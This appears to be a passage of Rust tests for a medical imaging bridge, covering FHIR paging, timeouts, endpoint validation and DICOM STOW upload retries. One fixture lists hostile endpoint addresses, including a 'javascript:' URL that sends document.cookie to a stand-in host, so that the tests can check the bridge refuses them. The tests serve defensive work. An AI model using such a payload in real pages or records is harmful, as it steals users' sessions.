                    "link": [{"relation": "next", "url": format!("http://127.0.0.1:{next_port}/fhir/ImagingStudy?patient=p1&page=2")}],
                    "entry": [study("s1", "1.2.1"), study("s2", "1.2.22")]})
                .to_string(),
            )
        } else if path.contains("page=2") {
            answer(200, &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [study("s3", "1.2.333")]}).to_string())
        } else {
            answer(404, "")
        }
    })
}

#[test]
fn a_foreign_next_link_is_refused_and_the_first_page_kept() {
    let foreign = FaultyServer::start(paging_script(0));
    let fhir = FaultyServer::start(paging_script(foreign.port));
    let bridge = bridge(&fhir);
    let list = block_on(bridge.patient_studies("p1", &StudyFilter::default())).expect("the first page is an answer");
    let mut uids: Vec<&str> = list.studies.iter().map(|s| s.study_uid.as_str()).collect();
    uids.sort();
    assert_eq!(uids, ["1.2.1", "1.2.22"], "the first page's studies are kept");
    let Some(BridgeError::Fhir(FhirError::ForeignPage { url })) = &list.incomplete else {
        panic!("a typed refusal: {:?}", list.incomplete)
    };
    assert!(url.contains(&format!("127.0.0.1:{}/fhir/ImagingStudy", foreign.port)), "the error names the link: {url}");
    assert!(foreign.seen().is_empty(), "no request reached the other origin");
    let strict = block_on(bridge.get_patient_studies("p1")).unwrap_err();
    assert!(matches!(strict, BridgeError::Fhir(FhirError::ForeignPage { .. })), "a caller asking for every study hears why: {strict}");

    // A deployment that really pages across hosts names the other origin.
    let config = BridgeConfig { allowed_origins: vec![foreign.url("/").to_string()], ..BridgeConfig::new(fhir.url("/fhir/")) };
    let widened = ImagingBridge::new(UreqTransport::new(), &config);
    widened.set_token(Some("secret-token".into()));
    let all = block_on(widened.get_patient_studies("p1")).expect("every page");
    assert_eq!(all.len(), 3);
    assert_eq!(foreign.seen().len(), 1);
    assert_eq!(foreign.seen()[0].authorization.as_deref(), Some("Bearer secret-token"), "an allowed origin is trusted alike");
}

#[test]
fn a_silent_fhir_server_ends_in_timeout_at_the_configured_limit() {
    let fhir = FaultyServer::start(Arc::new(|path: &str, _: Option<&str>, _| {
        if path.starts_with("/fhir/ImagingStudy") {
            // Accepts the connection, then says nothing for longer than the limit.
            let mut a = answer(200, "{}");
            a.silence = Some(Duration::from_secs(8));
            a
        } else if path.starts_with("/fhir/Patient/p1") {
            answer(200, r#"{"resourceType": "Patient", "id": "p1", "name": [{"family": "Doe"}]}"#)
        } else {
            answer(404, "")
        }
    }));
    let config = BridgeConfig { timeouts: Timeouts::all(Duration::from_secs(2)), ..BridgeConfig::new(fhir.url("/fhir/")) };
    let screen = Rc::new(Recorder::default());
    let session = Session::new(ImagingBridge::new(UreqTransport::new(), &config), SessionConfig::default(), screen.clone());
    let started = Instant::now();
    let result = block_on(session.open_patient("p1"));
    let elapsed = started.elapsed();
    println!("silent FHIR server, 2 s limit: open_patient failed after {:.2} s", elapsed.as_secs_f64());
    let timeout = SessionError::Bridge(BridgeError::Fhir(FhirError::Net(NetError::Timeout {
        url: format!("{}ImagingStudy?patient=p1&_include=ImagingStudy%3Aendpoint&_count=100", fhir.url("/fhir/")),
        seconds: 2,
    })));
    assert_eq!(result, Err(timeout.clone()));
    assert_eq!(*screen.failures.borrow(), [timeout], "the user and the host hear of it");
    assert!(elapsed >= Duration::from_millis(1900) && elapsed < Duration::from_secs(6), "at the configured limit: {elapsed:?}");
    assert_eq!(fhir.seen().iter().filter(|s| s.path.starts_with("/fhir/ImagingStudy")).count(), 1, "a timeout is not retried");
}

/// Four studies of p1, each with a contained Endpoint: one on `pacs_port` (the oldest), and,
/// newest first, one with userinfo (on `trap_port`), a `data:` and a `javascript:` address.
fn unusable_endpoints_script(pacs_port: u16, trap_port: u16) -> Script {
    Arc::new(move |path, _, _| {
        let study = |id: &str, started: &str, address: String| {
            serde_json::json!({"resource": {"resourceType": "ImagingStudy", "id": id, "started": started,
                "identifier": [{"system": "urn:dicom:uid", "value": format!("urn:oid:1.2.{}", id.len())}],
                "subject": {"reference": "Patient/p1"},
                "contained": [{"resourceType": "Endpoint", "id": "pacs", "status": "active",
                    "connectionType": {"code": "dicom-wado-rs"}, "address": address}],
                "endpoint": [{"reference": "#pacs"}],
                "series": [{"uid": "1.2.3.4", "instance": [{"uid": "1.2.3.4.5", "number": 1}]}]}})
        };
        let path = path.split('?').next().unwrap_or_default();
        match path {
            "/fhir/ImagingStudy" => answer(
                200,
                &serde_json::json!({"resourceType": "Bundle", "type": "searchset", "entry": [
                    study("good", "2020-01-01", format!("http://127.0.0.1:{pacs_port}/dicom-web")),
                    study("userinfo", "2024-03-01", format!("http://user:pass@127.0.0.1:{trap_port}/dicom-web")),
                    study("data-url", "2024-02-01", "data:application/dicom;base64,AAAA".into()),
                    study("javascript-url", "2024-01-01", "javascript:fetch('//evil.test/'+document.cookie)".into())]})
                .to_string(),
            ),
            "/fhir/Patient/p1" => answer(200, r#"{"resourceType": "Patient", "id": "p1", "name": [{"family": "Doe"}]}"#),
            _ => answer(404, ""),
        }
    })
}

#[test]
fn unusable_endpoint_addresses_fail_at_once_and_the_rest_still_loads() {
    let trap = FaultyServer::start(Arc::new(|_, _, _| answer(200, "[]")));
    let pacs = whole_pacs();
    let fhir = FaultyServer::start(unusable_endpoints_script(pacs.port, trap.port));
    let transport = Recording::new();
    let bridge = ImagingBridge::new(transport.clone(), &BridgeConfig::new(fhir.url("/fhir/")));
    bridge.set_token(Some("secret-token".into()));
    let screen = Rc::new(Recorder::default());
    let session = Session::new(bridge, SessionConfig::default(), screen.clone());

    // The newest study is the userinfo one: opening it fails, the list stands.
    let started = Instant::now();
    let opened = block_on(session.open_patient("p1"));
    println!("list of 4 and the newest (userinfo) study refused in {:.1} ms", started.elapsed().as_secs_f64() * 1e3);
    let unusable =
        |e: &SessionError| matches!(e, SessionError::Bridge(BridgeError::DicomWeb(DicomWebError::Net(NetError::UnusableAddress { .. }))));
    assert!(opened.as_ref().is_err_and(unusable), "{opened:?}");
    let listed = screen.listed();
    assert_eq!(listed.len(), 4, "every study is listed");
    for study in &listed {
        match study.fhir_id.as_str() {
            "good" => assert_eq!(study.source, Source::Enriched),
            other => assert!(
                matches!(&study.source, Source::InvalidEndpoint { message } if !message.contains("user:pass")),
                "{other}: {:?}",
                study.source
            ),
        }
    }
    for study in &listed {
        let started = Instant::now();
        let got = block_on(session.bridge().get_instance(study, "1.2.3.4", "1.2.3.4.5", &CancelToken::new()));
        let ms = started.elapsed().as_secs_f64() * 1e3;
        println!("{:>14}: {} in {ms:.2} ms", study.fhir_id, if got.is_ok() { "image" } else { "invalid-url" });
        match study.fhir_id.as_str() {
            "good" => assert_eq!(got.expect("the good study loads").as_slice(), b"WHOLE"),
            _ => assert!(got.map_err(SessionError::from).is_err_and(|e| unusable(&e))),
        }
    }
    assert!(trap.seen().is_empty(), "the userinfo address never reached its server");
    let sent = transport.sent.borrow();
    assert!(
        sent.iter().all(|u| u.starts_with("http://127.0.0.1:") && !u.contains('@')),
        "only plain addresses reached the network: {sent:?}"
    );
    assert_eq!(transport.sleeps.get(), 0, "nothing was retried");
}

/// Part 10 files of the upload tests: small lossless photos with their own UIDs.
fn upload_files(n: usize) -> Vec<(String, Vec<u8>)> {
    use emr_imaging::upload::photo::{vl_photo, PhotoContext, Picture};
    let patient = emr_imaging::fhir::Patient {
        id: "p".into(),
        identifiers: vec!["MRN".into()],
        family: Some("Upload".into()),
        given: vec![],
        birth_date: None,
        gender: None,
    };
    let context = PhotoContext {
        patient,
        patient_id: "MRN".into(),
        study_uid: Some("1.2.3".into()),
        accession: None,
        body_site: None,
        date: "20261203".into(),
        time: "090000".into(),
        description: None,
    };
    let mut k = 0u8;
    (0..n)
        .map(|i| {
            let pixels = vec![i as u8; 2 * 2 * 3];
            let photo = vl_photo(Picture::Rgb { width: 2, height: 2, pixels: &pixels }, &context, &mut || {
                k = k.wrapping_add(1);
                [k; 16]
            })
            .unwrap();
            (photo.sop_instance_uid, photo.part10)
        })
        .collect()
}

/// The real transport, recording the SOP Instance UIDs of every STOW body it sends.
struct RecordingTransport {
    inner: UreqTransport,
    sent: RefCell<Vec<Vec<String>>>,
}

impl Transport for RecordingTransport {
    async fn send(&self, request: Request) -> Result<Response, NetError> {
        if let (Some(body), Some(ct)) = (&request.body, request.header_value("content-type")) {
            let parts = emr_imaging::dicomweb::multipart::decode(ct, body.clone()).unwrap();
            let uids = parts.iter().map(|p| emr_imaging::upload::LocalFile::read("part", &p.body).unwrap().sop_instance_uid).collect();
            self.sent.borrow_mut().push(uids);
        }
        self.inner.send(request).await
    }
    async fn sleep(&self, _: Duration) {}
    fn now_unix(&self) -> f64 {
        self.inner.now_unix()
    }
    fn jitter(&self) -> f64 {
        0.5
    }
}

fn stow_json(stored: &[(&str, Option<u32>)], failed: &[(&str, u32)]) -> String {
    let item = |uid: &str, tag: &str, code: Option<u32>| {
        let mut o = serde_json::json!({ "00081155": { "vr": "UI", "Value": [uid] } });
        if let Some(code) = code {
            o[tag] = serde_json::json!({ "vr": "US", "Value": [code] });
        }
        o
    };
    let mut body = serde_json::json!({});
    if !stored.is_empty() {
        body["00081199"] =
            serde_json::json!({ "vr": "SQ", "Value": stored.iter().map(|(u, w)| item(u, "00081196", *w)).collect::<Vec<_>>() });
    }
    if !failed.is_empty() {
        body["00081198"] =
            serde_json::json!({ "vr": "SQ", "Value": failed.iter().map(|(u, r)| item(u, "00081197", Some(*r))).collect::<Vec<_>>() });
    }
    body.to_string()
}

fn run_queue(server: &FaultyServer, files: &[(String, Vec<u8>)], per_batch: usize) -> (emr_imaging::upload::queue::Ran, Vec<Vec<String>>) {
    use emr_imaging::upload::queue::{run, Limits, MemoryQueue, Watch};
    let queue = MemoryQueue::default();
    for (uid, bytes) in files {
        queue.push(uid, bytes.clone());
    }
    let transport = RecordingTransport { inner: UreqTransport::new(), sent: RefCell::new(Vec::new()) };
    let http = HttpClient::new(transport, AuthMapper::new(&server.url("/fhir/"), &[])).with_timeouts(Timeouts::all(Duration::from_secs(5)));
    let client = emr_imaging::dicomweb::DicomWebClient::new(&server.url("/dicom-web"));
    let limits = Limits { max_batch_files: per_batch, attempts: 4, ..Limits::default() };
    let ran = block_on(run(&http, &client, &queue, limits, &Watch { outcome: &|_, _| {}, failed: &|_| {} })).unwrap();
    let sent = http.transport().sent.borrow().clone();
    (ran, sent)
}

#[test]
fn stow_409_counts_as_already_present() {
    use emr_imaging::upload::stow::InstanceOutcome;
    let files = upload_files(2);
    let (a, b) = (files[0].0.clone(), files[1].0.clone());
    let body = stow_json(&[], &[(&a, 0x0111), (&b, 0x0111)]);
    let server = FaultyServer::start(Arc::new(move |_, _, _| answer(409, &body)));
    let (ran, sent) = run_queue(&server, &files, 10);
    assert!(ran.empty);
    assert_eq!(sent.len(), 1, "not resent");
    assert!(ran.finished.iter().all(|(_, o)| *o == InstanceOutcome::AlreadyPresent), "{:?}", ran.finished);
}

#[test]
fn stow_202_shows_warnings_and_failures_per_file_and_resends_only_the_unconfirmed() {
    use emr_imaging::upload::stow::InstanceOutcome;
    let files = upload_files(3);
    let uids: Vec<String> = files.iter().map(|(u, _)| u.clone()).collect();
    let first = stow_json(&[(&uids[0], Some(0xB000))], &[(&uids[1], 0xC000), (&uids[2], 0xA700)]);
    let second = stow_json(&[(&uids[2], None)], &[]);
    let server =
        FaultyServer::start(Arc::new(move |_, _, nth| answer(if nth == 0 { 202 } else { 200 }, if nth == 0 { &first } else { &second })));
    let (ran, sent) = run_queue(&server, &files, 10);
    assert!(ran.empty);
    assert_eq!(sent, [uids.clone(), vec![uids[2].clone()]], "out of resources: only that file again");
    let outcome = |uid: &str| ran.finished.iter().find(|(u, _)| u == uid).map(|(_, o)| o.clone());
    assert_eq!(outcome(&uids[0]), Some(InstanceOutcome::Stored { warning: Some(0xB000) }));
    assert_eq!(outcome(&uids[1]), Some(InstanceOutcome::Failed { reason: Some(0xC000) }));
    assert_eq!(outcome(&uids[2]), Some(InstanceOutcome::Stored { warning: None }));
}

#[test]
fn a_500_between_batches_resends_that_batch_and_never_a_confirmed_file() {
    let files = upload_files(6);
    let uids: Vec<String> = files.iter().map(|(u, _)| u.clone()).collect();
    let all = uids.clone();
    // Batches of two: the second request fails, every other one stores what it names.
    let server = FaultyServer::start(Arc::new(move |_, _, nth| {
        if nth == 1 {
            return answer(500, "{}");
        }
        let pairs = [(0, 1), (2, 3), (2, 3), (4, 5)];
        let (x, y) = pairs[nth.min(3)];
        answer(200, &stow_json(&[(&all[x], None), (&all[y], None)], &[]))
    }));
    let (ran, sent) = run_queue(&server, &files, 2);
    assert!(ran.empty);
    assert_eq!(ran.failures, 1);
    let flat: Vec<&String> = sent.iter().flatten().collect();
    for (i, uid) in uids.iter().enumerate() {
        let times = flat.iter().filter(|u| **u == uid).count();
        assert_eq!(times, if i == 2 || i == 3 { 2 } else { 1 }, "file {i}");
    }
    assert_eq!(ran.finished.len(), 6);
}
